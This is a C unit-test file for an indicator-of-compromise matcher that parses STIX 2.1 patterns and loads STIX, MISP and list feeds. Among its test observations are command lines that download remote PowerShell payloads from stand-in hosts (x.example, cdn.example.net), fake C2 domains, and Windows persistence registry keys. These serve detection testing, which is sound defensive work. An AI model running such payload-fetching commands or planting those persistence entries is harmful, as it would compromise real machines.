/*
 * IOC: the STIX 2.1 pattern parser (valid, invalid, unsupported constructs), LIKE, the STIX,
 * MISP and list loaders over the fixtures in tests/data/ioc/ (written from the STIX 2.1 and
 * MISP specifications), expiry, revocation, and matching through rh_ioc_match.
 */
#include <stdlib.h>
#include <unistd.h>

#include "ioc/ioc_internal.h"
#include "rh_test.h"

static rh_status parse(rh_ctx *ctx, const char *pat, struct ioc_node **x, struct ioc_perr *e)
{
    static struct rh_arena a;
    static int init;
    if (!init) {
        rh_arena_init(&a, ctx, 4096, 0);
        init = 1;
    }
    if (!ctx) {
        rh_arena_free(&a);
        init = 0;
        return RH_OK;
    }
    return ioc_pattern_parse(&a, pat, strlen(pat), x, e);
}

static void test_parser(rh_ctx *ctx)
{
    struct ioc_node *x;
    struct ioc_perr e;
    static const char *const valid[] = {
        "[file:hashes.'SHA-256' = 'aa']",
        "[file:hashes.MD5 = 'aa' OR file:name = 'x.exe']",
        "[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software' AND "
        "windows-registry-key:values[*].name = 'Evil']",
        "[windows-registry-key:values[0].data LIKE '%evil%']",
        "([domain-name:value = 'a.example'] OR [ipv4-addr:value = '1.2.3.4']) AND [url:value "
        "MATCHES '^https?://']",
        "[domain-name:value IN ('a.example', 'b.example')]",
        "[file:name NOT = 'x'] OR [file:name != 'y']",
        "[(file:name = 'a' OR file:name = 'b') AND file:hashes.'SHA-1' = 'cc']",
        "[ipv6-addr:value = '2001:db8::1']",
    };
    static const char *const invalid[] = {
        "",
        "[file:name = 'x'",
        "[file:name 'x']",
        "[file:name = 'x]",
        "file:name = 'x'",
        "[file:name = 'a\\q']",
        "[:name = 'x']",
        "[file:name = 'x'] AND",
        "[file:name = 'x'] junk",
        "[file:name IN ()]",
        "[file:name = 'x' !]",
    };
    static const char *const unsupported[] = {
        "[file:size > 10]",
        "[file:name = 'a'] FOLLOWEDBY [file:name = 'b']",
        "[file:name = 'a'] WITHIN 5 SECONDS",
        "[file:name = 'a'] REPEATS 2 TIMES",
        "[file:name = 'a'] START t'2016-06-01T00:00:00Z' STOP t'2016-07-01T00:00:00Z'",
        "[ipv4-addr:value ISSUBSET '10.0.0.0/8']",
        "[process:command_line = 'x']",
        "[file:name = 5]",
        "[EXISTS file:name]",
    };
    size_t i;
    for (i = 0; i < sizeof(valid) / sizeof(valid[0]); i++) {
        rh_status st = parse(ctx, valid[i], &x, &e);
        if (st != RH_OK) {
            fprintf(stderr, "valid pattern %zu: %s at %zu\n", i, e.msg, e.off);
        }
        RH_CHECK_EQ(st, RH_OK);
    }
    for (i = 0; i < sizeof(invalid) / sizeof(invalid[0]); i++) {
        RH_CHECK_EQ(parse(ctx, invalid[i], &x, &e), RH_ERR_FORMAT);
        RH_CHECK(e.msg[0] != 0);
    }
    for (i = 0; i < sizeof(unsupported) / sizeof(unsupported[0]); i++) {
        RH_CHECK_EQ(parse(ctx, unsupported[i], &x, &e), RH_ERR_UNSUPPORTED);
        RH_CHECK(e.unsupported == 1);
    }
    /* precedence: AND binds tighter than OR */
    RH_CHECK_EQ(parse(ctx, "[file:name = 'a' OR file:name = 'b' AND file:name = 'c']", &x, &e),
                RH_OK);
    RH_CHECK_EQ(x->kind, IOC_N_OR);
    RH_CHECK_EQ(x->b->kind, IOC_N_AND);
    /* unescaping and registry key normalisation */
    RH_CHECK_EQ(
        parse(ctx, "[windows-registry-key:key = 'HKEY_CURRENT_USER\\\\Software\\\\Run']", &x, &e),
        RH_OK);
    RH_CHECK_STR(x->vals[0], "HKCU\\SOFTWARE\\RUN");
    RH_CHECK_EQ(parse(ctx, "[file:name = 'it\\'s']", &x, &e), RH_OK);
    RH_CHECK_STR(x->vals[0], "it's");
    /* nesting cap */
    {
        char deep[400];
        size_t k = 0;
        for (i = 0; i < 100; i++) {
            deep[k++] = '(';
        }
        memcpy(deep + k, "[file:name = 'x']", 17);
        k += 17;
        for (i = 0; i < 100; i++) {
            deep[k++] = ')';
        }
        deep[k] = 0;
        RH_CHECK_EQ(parse(ctx, deep, &x, &e), RH_ERR_FORMAT);
    }
    parse(NULL, NULL, NULL, NULL);
}

static void test_like(void)
{
    RH_CHECK(ioc_like("%evil%", 6, "C:\\EVIL\\x.exe", 13));
    RH_CHECK(ioc_like("svch_st.exe", 11, "svch0st.exe", 11));
    RH_CHECK(!ioc_like("svch_st.exe", 11, "svchost.exe.bak", 15));
    RH_CHECK(ioc_like("%", 1, "", 0));
    RH_CHECK(!ioc_like("a%b", 3, "acc", 3));
    RH_CHECK(ioc_like("a%b%c", 5, "aXbYbZc", 7));
}

static void test_detect(void)
{
    RH_CHECK_EQ(ioc_detect("d41d8cd98f00b204e9800998ecf8427e", 32), IOC_P_MD5);
    RH_CHECK_EQ(ioc_detect("evil.example", 12), IOC_P_DOMAIN);
    RH_CHECK_EQ(ioc_detect("evil.exe", 8), IOC_P_FILE_NAME);
    RH_CHECK_EQ(ioc_detect("10.1.2.3", 8), IOC_P_IPV4);
    RH_CHECK_EQ(ioc_detect("10.1.2.300", 10),
                IOC_P_DOMAIN == ioc_detect("10.1.2.300", 10) ? IOC_P_DOMAIN : -1);
    RH_CHECK_EQ(ioc_detect("2001:db8::1", 11), IOC_P_IPV6);
    RH_CHECK_EQ(ioc_detect("HKLM\\Software\\X", 15), IOC_P_REG_KEY);
    RH_CHECK_EQ(ioc_detect("C:\\x\\y.exe", 10), IOC_P_FILE_PATH);
    RH_CHECK_EQ(ioc_detect("https://a.example/x", 19), IOC_P_URL);
    RH_CHECK_EQ(ioc_detect("word", 4), -1);
}

static rh_ioc_set *load(rh_ctx *ctx, const char *file, uint64_t now)
{
    rh_ioc_opts o;
    rh_ioc_set *s = NULL;
    memset(&o, 0, sizeof(o));
    o.now = now;
    RH_CHECK_EQ(rh_ioc_create(ctx, &o, &s), RH_OK);
    RH_CHECK_EQ(rh_ioc_load_file(s, file), RH_OK);
    RH_CHECK_EQ(rh_ioc_finish(s), RH_OK);
    return s;
}

/* Number of hits of one observation list, and the first hit's id in *id. */
static size_t match(rh_ioc_set *s, const rh_ioc_obs *obs, size_t n, const char **id)
{
    rh_ioc_matcher *m = NULL;
    const rh_ioc_hit *h;
    size_t nh = 0;
    RH_CHECK_EQ(rh_ioc_matcher_create(s, &m), RH_OK);
    RH_CHECK_EQ(rh_ioc_match(m, obs, n, &h, &nh), RH_OK);
    *id = nh ? h[0].ind->id : "";
    rh_ioc_matcher_destroy(m);
    return nh;
}

#define NOW 134070000000000000ull /* 2025-11-11 */

static void test_stix(rh_ctx *ctx)
{
    rh_ioc_set *s = load(ctx, "data/ioc/bundle.json", NOW);
    const rh_ioc_stats *st = rh_ioc_get_stats(s);
    const char *id;
    rh_ioc_obs o1[] = {
        {RH_IOC_OBS_REG_KEY,
         "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
         sizeof("HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run") - 1,
         "key path"},
        {RH_IOC_OBS_VALUE_NAME, "WinUpdate", sizeof("WinUpdate") - 1, "value name"}};
    rh_ioc_obs o2[] = {{RH_IOC_OBS_VALUE_NAME, "WinUpdate", sizeof("WinUpdate") - 1, "value name"}};
    rh_ioc_obs o3[] = {{RH_IOC_OBS_PATH, "C:\\ProgramData\\SVCH0ST.EXE",
                        sizeof("C:\\ProgramData\\SVCH0ST.EXE") - 1, "target"}};
    rh_ioc_obs o4[] = {{RH_IOC_OBS_COMMAND_LINE, "powershell iwr http://x.example/u.ps1",
                        sizeof("powershell iwr http://x.example/u.ps1") - 1, "cmd"}};
    rh_ioc_obs o5[] = {{RH_IOC_OBS_HOSTNAME, "a.stage.evil-c2.example",
                        sizeof("a.stage.evil-c2.example") - 1, "dns"}};
    rh_ioc_obs o6[] = {
        {RH_IOC_OBS_PATH, "C:\\x\\vmtoolsd.exe", sizeof("C:\\x\\vmtoolsd.exe") - 1, "target"}};
    rh_ioc_obs o7[] = {
        {RH_IOC_OBS_HASHES, "SHA1=00,MD5=92EB5FFEE6AE2FEC3AD71C777531578F,IMPHASH=00",
         sizeof("SHA1=00,MD5=92EB5FFEE6AE2FEC3AD71C777531578F,IMPHASH=00") - 1, "hashes"}};
    RH_CHECK_EQ(st->indicators, 7);
    RH_CHECK_EQ(st->expired, 1);
    RH_CHECK_EQ(st->revoked, 1);
    RH_CHECK_EQ(st->unsupported, 4);
    RH_CHECK_EQ(st->invalid, 1);
    RH_CHECK_EQ(st->ignored, 1);
    RH_CHECK_EQ(rh_ioc_expired_count(s), 1);
    RH_CHECK_STR(rh_ioc_expired_at(s, 0)->id, "indicator--a1000000-0000-4000-8000-000000000005");
    RH_CHECK_EQ(match(s, o1, 2, &id), 1);
    RH_CHECK_STR(id, "indicator--a1000000-0000-4000-8000-000000000001");
    RH_CHECK_EQ(match(s, o2, 1, &id), 0); /* AND: the key is needed too */
    RH_CHECK_EQ(match(s, o3, 1, &id), 1); /* LIKE svch_st.exe, case-insensitive */
    RH_CHECK_EQ(match(s, o4, 1, &id), 1); /* url LIKE '%/u.ps1' from a command line */
    RH_CHECK_EQ(match(s, o5, 1, &id), 1); /* parent domain in IN (...) */
    RH_CHECK_EQ(match(s, o6, 1, &id), 0); /* expired: never matched */
    RH_CHECK_EQ(match(s, o7, 1, &id), 1); /* Sysmon Hashes */
    RH_CHECK_STR(id, "indicator--a1000000-0000-4000-8000-000000000002");
    rh_ioc_destroy(s);
    /* without a clock nothing expires */
    s = load(ctx, "data/ioc/bundle.json", 0);
    RH_CHECK_EQ(rh_ioc_get_stats(s)->expired, 0);
    RH_CHECK_EQ(match(s, o6, 1, &id), 1);
    rh_ioc_destroy(s);
}

static void test_misp(rh_ctx *ctx)
{
    rh_ioc_set *s = load(ctx, "data/ioc/misp_event.json", NOW);
    const rh_ioc_stats *st = rh_ioc_get_stats(s);
    const char *id;
    rh_ioc_obs o1[] = {
        {RH_IOC_OBS_REG_KEY,
         "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe",
         sizeof("HKLM\\SOFTWARE\\Microsoft\\Windows "
                "NT\\CurrentVersion\\SilentProcessExit\\notepad.exe") -
             1,
         "key"},
        {RH_IOC_OBS_VALUE_NAME, "MonitorProcess", sizeof("MonitorProcess") - 1, "name"},
        {RH_IOC_OBS_VALUE_DATA, "C:\\Users\\Public\\Libraries\\wermon.exe",
         sizeof("C:\\Users\\Public\\Libraries\\wermon.exe") - 1, "data"}};
    rh_ioc_obs o2[] = {{RH_IOC_OBS_IP, "203.0.113.50", sizeof("203.0.113.50") - 1, "conn"}};
    rh_ioc_obs o3[] = {
        {RH_IOC_OBS_HASHES, "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
         sizeof("2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae") - 1, "h"}};
    rh_ioc_obs o4[] = {
        {RH_IOC_OBS_REG_KEY, "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
         sizeof("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon") - 1, "key"},
        {RH_IOC_OBS_VALUE_NAME, "Userinit", sizeof("Userinit") - 1, "name"}};
    RH_CHECK_EQ(st->indicators, 9); /* 6 attributes + registry-key object + 2 file attributes */
    RH_CHECK_EQ(st->revoked, 1);    /* deleted attribute */
    RH_CHECK_EQ(st->ignored, 1);    /* text attribute */
    RH_CHECK_EQ(match(s, o1, 3, &id), 1);
    RH_CHECK_STR(id, "0b2d6c1e-7a3f-4d51-8c29-4e6f7a8b9c04");
    RH_CHECK_EQ(match(s, o2, 1, &id), 1);
    RH_CHECK_EQ(match(s, o3, 1, &id), 0);
    RH_CHECK_EQ(match(s, o4, 2, &id), 1);
    RH_CHECK_STR(id, "7c4a1b2d-3e5f-4a6b-8c7d-9e0f1a2b3c4d");
    rh_ioc_destroy(s);
}

static void test_list(rh_ctx *ctx)
{
    rh_ioc_set *s = load(ctx, "data/ioc/list.txt", NOW);
    const rh_ioc_stats *st = rh_ioc_get_stats(s);
    const char *id;
    rh_ioc_obs o1[] = {{RH_IOC_OBS_COMMAND_LINE,
                        "curl https://cdn.example.net/payload/stage2.ps1 -o x",
                        sizeof("curl https://cdn.example.net/payload/stage2.ps1 -o x") - 1, "cmd"}};
    rh_ioc_obs o2[] = {
        {RH_IOC_OBS_HOSTNAME, "www.evil-c2.example", sizeof("www.evil-c2.example") - 1, "dns"}};
    rh_ioc_obs o3[] = {
        {RH_IOC_OBS_REG_KEY, "HKU\\S-1-5-21-9\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
         sizeof("HKU\\S-1-5-21-9\\Software\\Microsoft\\Windows\\CurrentVersion\\Run") - 1, "key"},
        {RH_IOC_OBS_VALUE_NAME, "WinUpdate", sizeof("WinUpdate") - 1, "name"}};
    rh_ioc_obs o4[] = {{RH_IOC_OBS_REG_KEY, "HKLM\\SYSTEM\\ControlSet001\\Services\\WinNetSvc",
                        sizeof("HKLM\\SYSTEM\\ControlSet001\\Services\\WinNetSvc") - 1, "key"}};
    rh_ioc_obs o5[] = {{RH_IOC_OBS_IP, "2001:DB8::7", sizeof("2001:DB8::7") - 1, "ip"}};
    RH_CHECK_EQ(st->indicators, 12);
    RH_CHECK_EQ(st->invalid, 1);
    RH_CHECK_EQ(match(s, o1, 1, &id), 1);
    RH_CHECK_EQ(match(s, o2, 1, &id), 1);
    RH_CHECK_STR(id, "data/ioc/list.txt:8");
    RH_CHECK_EQ(match(s, o3, 2, &id), 1);
    RH_CHECK_EQ(match(s, o4, 1, &id), 1);
    RH_CHECK_EQ(match(s, o5, 1, &id), 1);
    rh_ioc_destroy(s);
}

/* Load text from a file (read in 1 MiB windows) and from memory: same counters. */
static void same_both_ways(rh_ctx *ctx, const rh_buf *text, size_t want_indicators,
                           size_t want_ignored)
{
    char path[] = "/tmp/rh_ioc_window_XXXXXX";
    int fd = mkstemp(path);
    rh_ioc_set *a = NULL, *b = NULL;
    RH_CHECK(fd >= 0);
    if (fd < 0) {
        return;
    }
    RH_CHECK_EQ((size_t)write(fd, text->data, text->len), text->len);
    close(fd);
    RH_CHECK_EQ(rh_ioc_create(ctx, NULL, &a), RH_OK);
    RH_CHECK_EQ(rh_ioc_create(ctx, NULL, &b), RH_OK);
    RH_CHECK_EQ(rh_ioc_load_file(a, path), RH_OK);
    RH_CHECK_EQ(rh_ioc_load_mem(b, path, text->data, text->len), RH_OK);
    RH_CHECK_EQ(rh_ioc_get_stats(a)->indicators, want_indicators);
    RH_CHECK_EQ(rh_ioc_get_stats(b)->indicators, want_indicators);
    RH_CHECK_EQ(rh_ioc_get_stats(a)->ignored, want_ignored);
    RH_CHECK_EQ(rh_ioc_get_stats(b)->ignored, want_ignored);
    RH_CHECK_EQ(rh_ioc_get_stats(a)->invalid, rh_ioc_get_stats(b)->invalid);
    rh_ioc_destroy(a);
    rh_ioc_destroy(b);
    unlink(path);
}

/* Feeds bigger than the loader's 1 MiB read window: objects, lines and a single object cross
 * window edges; a member after "objects" and a single object larger than a window. */
static void test_windows(rh_ctx *ctx)
{
    rh_buf t = RH_BUF_INIT(ctx);
    size_t i, k;
    rh_buf_puts(&t, "{\n  \"type\": \"bundle\",\n  \"id\": \"bundle--1\",\n  \"objects\": [\n");
    for (i = 0; i < 15000; i++) {
        rh_buf_printf(&t,
                      "%s    {\"type\": \"indicator\", \"spec_version\": \"2.1\", "
                      "\"id\": \"indicator--%08zu-0000-4000-8000-000000000000\", "
                      "\"pattern_type\": \"stix\", \"valid_from\": \"2024-01-01T00:00:00Z\", "
                      "\"pattern\": \"[domain-name:value = 'd%zu.example']\", "
                      "\"description\": \"%0*d\"}",
                      i ? ",\n" : "", i, i, (int)(i % 300), 0);
        if (i % 1000 == 0) {
            rh_buf_puts(&t, ",\n    {\"type\": \"identity\", \"id\": \"identity--x\"}");
        }
    }
    rh_buf_puts(&t, "\n  ],\n  \"x_after\": [1, 2, {\"a\": \"]\"}]\n}\n");
    RH_CHECK(t.len > 3 * 1048576);
    same_both_ways(ctx, &t, 15000, 15);

    rh_buf_reset(&t);
    rh_buf_puts(&t, "{\"type\": \"indicator\", \"spec_version\": \"2.1\", \"id\": "
                    "\"indicator--big\", \"pattern_type\": \"stix\", \"valid_from\": "
                    "\"2024-01-01T00:00:00Z\", \"description\": \"");
    for (k = 0; k < 1600000; k++) {
        rh_buf_putc(&t, (char)('a' + k % 26));
    }
    rh_buf_puts(&t, "\", \"pattern\": \"[domain-name:value = 'big.example']\"}");
    same_both_ways(ctx, &t, 1, 0);

    rh_buf_reset(&t);
    for (i = 0; i < 80000; i++) {
        rh_buf_printf(&t, "host%zu.example.org\tline %zu\r\n", i, i);
    }
    rh_buf_puts(&t, "last.example.org"); /* no final newline */
    RH_CHECK(t.len > 2 * 1048576);
    same_both_ways(ctx, &t, 80001, 0);
    rh_buf_free(&t);
}

static void test_errors(rh_ctx *ctx)
{
    rh_ioc_set *s = NULL;
    rh_ioc_opts o;
    memset(&o, 0, sizeof(o));
    o.max_indicators = 2;
    RH_CHECK_EQ(rh_ioc_create(ctx, &o, &s), RH_OK);
    RH_CHECK_EQ(rh_ioc_load_mem(s, "bad.json", "{\"type\": \"bundle\", \"objects\": [ {", 33),
                RH_ERR_FORMAT);
    RH_CHECK_EQ(rh_ioc_load_mem(s, "three", "a.example\nb.example\nc.example\n", 30), RH_ERR_LIMIT);
    RH_CHECK_EQ(rh_ioc_load_file(s, "data/ioc/no-such-file"), RH_ERR_IO);
    RH_CHECK_EQ(rh_ioc_finish(s), RH_OK);
    RH_CHECK_EQ(rh_ioc_load_mem(s, "late", "x.example\n", 10), RH_ERR_ARG);
    rh_ioc_destroy(s);
}

int main(void)
{
    rh_ctx *ctx = NULL;
    rh_ctx_create(NULL, &ctx);
    test_parser(ctx);
    test_like();
    test_detect();
    test_stix(ctx);
    test_misp(ctx);
    test_list(ctx);
    test_windows(ctx);
    test_errors(ctx);
    rh_ctx_destroy(ctx);
    return rh_test_summary("test_ioc");
}
